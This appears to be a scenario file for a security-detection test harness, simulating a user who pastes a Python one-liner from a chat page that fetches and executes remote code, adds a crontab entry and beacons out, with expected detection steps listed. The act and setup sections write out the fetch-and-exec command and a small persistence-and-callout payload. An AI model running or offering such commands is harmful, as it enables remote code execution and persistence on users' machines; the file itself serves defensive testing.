title="A line of Python from a chat that runs what it fetches"
what="buyer looks at a chat in Firefox; then pastes python3 -c 'import urllib.request as u; exec(u.urlopen(...).read())'. The fetched code starts sh and leaves a crontab; python connects to 203.0.113.81 for it and to 203.0.113.66 afterwards."
host=ws3.example.org user=buyer daemons="cron sshd" audit_rules=audit-logins.rules
setup() {
  mkdir -p "$base/out/www/p"
  printf 'import os\nos.system("(crontab -l 2>/dev/null; echo @daily true) | crontab -")\nu.urlopen("http://203.0.113.66/ok", data=b"1", timeout=4)\n' > "$base/out/www/p/fix.py"
  printf '<html>discount helper</html>' > "$base/out/www/p/room.html"
}
act() {
  small_talk 1
  display_up
  firefox_visit buyer http://chat.example.com/p/room.html
  ssh_as buyer <<'L'
date
python3 -c 'import urllib.request as u; exec(u.urlopen("http://cdn.example.com/p/fix.py").read())'
%sleep 1
ls
L
  small_talk 1
}
truth() {
  net_step visit 'firefox.* 203.0.113.82:80' 'the chat'
  exec_step paste 'python3 -c import urllib.request as u; exec' 'the pasted line'
  net_step fetch 'python3.* 203.0.113.81:80' 'fetches'
  exec_step execute 'crontab -' 'and runs what came'
  net_step beacon 'python3.* 203.0.113.66:80' 'it calls out'
}
